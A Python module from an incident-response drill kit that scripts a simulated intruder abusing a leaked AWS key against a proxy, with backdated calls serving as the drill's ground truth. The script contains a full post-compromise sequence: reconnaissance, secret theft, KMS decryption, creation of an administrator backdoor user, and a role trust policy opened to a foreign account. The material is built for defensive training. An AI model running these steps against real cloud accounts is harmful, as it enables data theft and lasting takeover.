"""The scripted intruder: what someone did with the leaked key in the hours before the alarm.

Every call is signed and sent like any other; only its time is told to the proxy, which therefore records it in the
past. The ids of its events are the ground truth of a drill.
"""

from __future__ import annotations

import json
from contextlib import suppress
from dataclasses import dataclass, replace
from datetime import datetime, timedelta
from random import Random

from irkit.drill.world import estate
from irkit.drill.world.aws_caller import AwsCaller, AwsRefused
from irkit.drill.world.estate import Estate
from irkit.drill.world.json_shape import JsonObject
from irkit.drill.world.proxy import AT, SOURCE_IP, TOKEN
from irkit.drill.world.seed_aws import context, key_pair
from irkit.drill.world.signature import KeyPair

WORKS = "works"
BACK_DOOR_USER = "svc-backup2"
FOREIGN_ACCOUNT = "444455556666"
_IPS = ("185.220.101.34", "45.153.160.12")
_AGENTS = (
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2024 prompt/off",
    "Boto3/1.34.51 md/Botocore#1.34.51 ua/2.0 os/linux#6.5.0 md/arch#x86_64 lang/python#3.11.8 Botocore/1.34.51",
)


@dataclass(frozen=True)
class Spoils:
    """What the intruder holds in the end: the back door's key and a session taken with the leaked one."""

    back_door: KeyPair
    session: KeyPair


class Intruder:
    """Plays the script against the proxy. ``token`` lets it say when its calls happened."""

    def __init__(self, endpoint: str, token: str, found: Estate, alarm_at: datetime, random: Random) -> None:
        self._endpoint = endpoint
        self._token = token
        self._found = found
        self._alarm_at = alarm_at
        self._random = random

    def play(self) -> Spoils:
        """All of it, in order. Raises AwsRefused when a call that must work is refused."""
        self._look_around()
        self._steal()
        back_door = self._build_back_door()
        leaked = self._found.leaked
        session = key_pair(self._as(leaked, 47).query("sts", "GetSessionToken", {"DurationSeconds": "43200"}))
        self._as(session, 46, ip=1).query("sts", "GetCallerIdentity", {})
        self._decrypt(self._as(session, 44, ip=1), estate.LEDGERS[-1], estate.LEDGERS[-1])
        self._decrypt(self._as(leaked, 21), estate.LEDGERS[-1], estate.LEDGERS[-1])
        return Spoils(back_door, session)

    def try_again(self, spoils: Spoils) -> dict[str, str]:
        """What each of the intruder's credentials gets right now: ``works``, or the error code. Recorded as ever."""
        held = {"leaked key": self._found.leaked, "session": spoils.session, "back door": spoils.back_door}
        return {name: self._tried(keys) for name, keys in held.items()}

    def _tried(self, keys: KeyPair) -> str:
        now = AwsCaller(self._endpoint, keys, estate.REGION, {"User-Agent": _AGENTS[1], SOURCE_IP: _IPS[1]})
        try:
            now.json("secretsmanager", "ListSecrets", {})
        except AwsRefused as refusal:
            return refusal.code
        return WORKS

    def _as(self, keys: KeyPair, minutes: int, region: str = estate.REGION, ip: int = 0) -> AwsCaller:
        jitter = timedelta(seconds=self._random.randrange(50))
        when = self._alarm_at - timedelta(minutes=minutes) + jitter
        return AwsCaller(
            self._endpoint,
            keys,
            region,
            {"User-Agent": _AGENTS[ip], SOURCE_IP: _IPS[ip], AT: str(int(when.timestamp())), TOKEN: self._token},
        )

    def _look_around(self) -> None:
        leaked = self._found.leaked
        self._as(leaked, 171).query("sts", "GetCallerIdentity", {})
        for minutes, action, params in (
            (170, "ListUsers", {}),
            (170, "ListAttachedUserPolicies", {"UserName": estate.LEAKED_USER}),
            (169, "ListRoles", {}),
        ):
            refused(self._as(leaked, minutes), "iam", action, params)
        self._as(leaked, 166).json("secretsmanager", "ListSecrets", {})
        self._as(leaked, 165, estate.GLOBAL_REGION).json("secretsmanager", "ListSecrets", {})
        refused(self._as(leaked, 164, estate.GLOBAL_REGION), "kms", "ListKeys", {})

    def _steal(self) -> None:
        leaked = self._found.leaked
        for minutes, name in ((160, estate.DATABASE_SECRET), (159, estate.DEPLOY_SECRET)):
            self._as(leaked, minutes).json("secretsmanager", "GetSecretValue", {"SecretId": name})
        for minutes, name in zip((152, 150, 149), estate.LEDGERS, strict=True):
            self._decrypt(self._as(leaked, minutes), name, name)
        with suppress(AwsRefused):  # a wrong encryption context is refused: the record of that is what we want
            self._decrypt(self._as(leaked, 148), estate.LEDGERS[0], estate.LEDGERS[1])

    def _decrypt(self, caller: AwsCaller, ledger: str, said: str) -> None:
        caller.json(
            "kms", "Decrypt", {"CiphertextBlob": self._found.ciphertexts[ledger], "EncryptionContext": context(said)}
        )

    def _build_back_door(self) -> KeyPair:
        leaked = self._found.leaked
        self._as(leaked, 122).query("iam", "CreateUser", {"UserName": BACK_DOOR_USER})
        made = self._as(leaked, 121).query("iam", "CreateAccessKey", {"UserName": BACK_DOOR_USER})
        self._as(leaked, 120).query(
            "iam",
            "AttachUserPolicy",
            {"UserName": BACK_DOOR_USER, "PolicyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        )
        trust = {
            "Version": "2012-10-17",
            "Statement": [
                {
                    "Effect": "Allow",
                    "Action": "sts:AssumeRole",
                    "Principal": {
                        "AWS": [f"arn:aws:iam::{estate.ACCOUNT}:root", f"arn:aws:iam::{FOREIGN_ACCOUNT}:root"]
                    },
                }
            ],
        }
        self._as(leaked, 111).query(
            "iam", "UpdateAssumeRolePolicy", {"RoleName": estate.READER_ROLE, "PolicyDocument": json.dumps(trust)}
        )
        pair = key_pair(made)
        self._as(pair, 98, ip=1).query("sts", "GetCallerIdentity", {})
        self._as(pair, 97, ip=1).json("secretsmanager", "ListSecrets", {})
        return pair


def refused(caller: AwsCaller, service: str, operation: str, params: JsonObject | dict[str, str]) -> None:
    """A call that AWS must refuse. Raises RuntimeError when it does not: the drill's story would not hold."""
    try:
        if service == "iam":
            caller.query(service, operation, {name: str(value) for name, value in params.items()})
        else:
            caller.json(service, operation, dict(params))
    except AwsRefused:
        return
    msg = f"{service}:{operation} should have been refused"
    raise RuntimeError(msg)


def past_use(endpoint: str, token: str, found: Estate, alarm_at: datetime) -> None:
    """The leaked key's honest use in the day before: the apps decrypting and CI looking at its services."""
    for hours in range(24, 0, -3):
        when = alarm_at - timedelta(hours=hours, minutes=7)
        app = AwsCaller(
            endpoint,
            found.leaked,
            estate.REGION,
            {"User-Agent": "acme-app/2026.11", SOURCE_IP: "10.0.4.21", AT: str(int(when.timestamp())), TOKEN: token},
        )
        app.json(
            "kms",
            "Decrypt",
            {"CiphertextBlob": found.ciphertexts[estate.LEDGERS[-1]], "EncryptionContext": context(estate.LEDGERS[-1])},
        )
        agent = "aws-cli/2.31.0 md/github-actions"
        ci = replace(app, headers={**app.headers, "User-Agent": agent, SOURCE_IP: "10.0.9.8"})
        ci.json("ecs", "DescribeServices", {"cluster": estate.CLUSTER, "services": list(estate.SERVICES)})
